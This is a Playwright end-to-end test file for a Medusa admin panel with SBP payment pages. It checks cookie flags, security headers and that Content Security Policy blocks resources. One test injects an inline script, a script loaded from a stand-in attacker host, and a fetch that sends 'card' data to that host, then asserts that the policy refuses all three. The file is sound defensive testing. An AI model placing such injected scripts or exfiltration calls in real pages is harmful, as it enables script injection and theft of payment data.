import type { Browser, BrowserContext, Page } from "playwright-core"
import { startChromium } from "../../e2e/support/chromium"
import { signInByForm } from "../../e2e/support/sign-in-by-form"
import { until } from "../../http/support/until"
import type { ProxyHarness } from "./proxy-harness"

type Violation = { directive: string; blocked: string }

/** Every page on which money moves, and Medusa's pages that staff use most. */
const PAGES = [
  "/sbp",
  "/sbp/attention",
  "/sbp/payments",
  "/sbp/payouts",
  "/sbp/payouts/create",
  "/sbp/payouts/create-link",
  "/settings/sbp",
  "/orders",
  "/products",
  "/settings/regions",
]

/** The admin in a browser, which enforces the policy. */
export function adminPolicy(get: () => ProxyHarness) {
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let violations: Violation[] = []

  beforeAll(async () => {
    browser = await startChromium()
    context = await browser.newContext({
      baseURL: get().nginx.origin,
      ignoreHTTPSErrors: true,
    })
    // The admin, as vite makes it for developers, comes through the proxy.
    context.setDefaultTimeout(40_000)
    await context.exposeFunction("tell", (violation: Violation) => {
      if (!isProbe(violation)) {
        violations.push(violation)
      }
    })
    await context.addInitScript(
      `addEventListener("securitypolicyviolation", (event) => tell({
         directive: event.effectiveDirective, blocked: event.blockedURI }))`
    )
    page = await context.newPage()
    await page.goto("/app/login")
    await signInByForm(page)
  })
  afterAll(() => browser?.close())
  afterEach(() => {
    violations = []
  })

  it("signs a user in by its form, with a Secure cookie", async () => {
    await page.getByRole("link", { name: "SBP" }).click()
    await page.waitForURL("**/app/sbp")
    const cookies = await context.cookies()
    const session = cookies.find(({ name }) => name === "connect.sid")
    expect(session).toMatchObject({ secure: true, httpOnly: true })
    expect(violations).toEqual([])
  })

  it("sends the security headers with every page", async () => {
    for (const address of ["/app", "/app/sbp/payouts/create"]) {
      const response = await page.goto(address)
      expect(response?.headers()).toMatchObject({
        "content-security-policy": expect.stringContaining(
          "script-src 'self'; "
        ) as string,
        "strict-transport-security": "max-age=31536000",
        "x-content-type-options": "nosniff",
        "referrer-policy": "same-origin",
      })
    }
  })

  it("causes no policy violations on its pages", async () => {
    for (const address of PAGES) {
      await page.goto(`/app${address}`)
      await page.getByRole("heading").first().waitFor()
      await page.waitForLoadState("networkidle")
    }
    expect(violations).toEqual([])
  })

  it("shows no country flags, as the page says", async () => {
    await page.goto("/app/settings/tax-regions")
    await page.getByRole("link", { name: "Russia" }).first().waitFor()
    await until(() => Promise.resolve(violations.length > 0), "the flag")
    await page.waitForLoadState("networkidle")
    const flag = "https://cdn.jsdelivr.net/gh/lipis/flag-icons/flags/4x3/ru.svg"
    expect(violations).toEqual([{ directive: "img-src", blocked: flag }])
  })

  it("runs no injected script and sends nothing to other hosts", async () => {
    await page.goto("/app/sbp")
    await page.getByRole("heading").first().waitFor()
    await page.evaluate(`(() => {
      const inline = document.createElement("script")
      inline.textContent = "window.ran = true"
      const foreign = document.createElement("script")
      foreign.src = "https://evil.example/x.js"
      document.body.append(inline, foreign)
      fetch("https://evil.example/card").catch(() => {})
    })()`)
    await until(
      () => Promise.resolve(violations.length === 3),
      "three refusals"
    )
    expect(await page.evaluate("window.ran")).toBeUndefined()
  })
}

/**
 * Medusa's copy of zod tests once whether eval is allowed, and works without it.
 */
function isProbe({ directive, blocked }: Violation): boolean {
  return directive === "script-src" && blocked === "eval"
}
